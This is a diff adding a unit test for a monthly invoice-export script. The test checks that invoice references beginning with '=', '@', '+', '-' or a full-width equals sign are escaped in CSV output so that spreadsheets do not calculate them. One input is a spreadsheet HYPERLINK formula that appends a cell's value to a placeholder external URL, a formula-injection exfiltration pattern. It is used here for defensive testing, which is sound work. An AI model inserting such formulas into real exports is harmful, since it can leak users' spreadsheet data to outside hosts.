@@ -68,3 +68,23 @@ it('mes.mjs of the guide names a note whose XML is not there, but for a canceled
   const named = ['issued', 'canceled'].map((id) => `${id}: sem XML; veja a nota no portal nacional`);
   expect(said).toEqual(['emitidas: 1, R$ 10,00; canceladas: 2; a resolver: 2', ...named]);
 });
+
+it('mes.mjs of the guide writes no reference that a spreadsheet calculates', async () => {
+  const references = ['=HYPERLINK("http://x.example/"&C2)', '@SUM(1)', '+1', '-1+1', '＝1', 'pedido-1001', '"=1;2"'];
+  const answers = references.flatMap((reference, at) => [
+    [`n${at}`, note('issued', { reference })] as const,
+    [`n${at}/xml`, XML] as const,
+  ]);
+  const { rows } = await closed(Object.fromEntries(answers));
+  const cells = rows.map((row) => row.replace(/^.*"issued";/, ''));
+  expect(cells).toEqual([
+    '"=""=HYPERLINK(""""http://x.example/""""&C2)"""',
+    '"=""@SUM(1)"""',
+    '"=""+1"""',
+    '"=""-1+1"""',
+    '"=""＝1"""',
+    '"pedido-1001"',
+    '"""=1;2"""',
+  ]);
+  expect(rows[0]).toContain(`"=""${'3'.repeat(50)}"""`);
+});
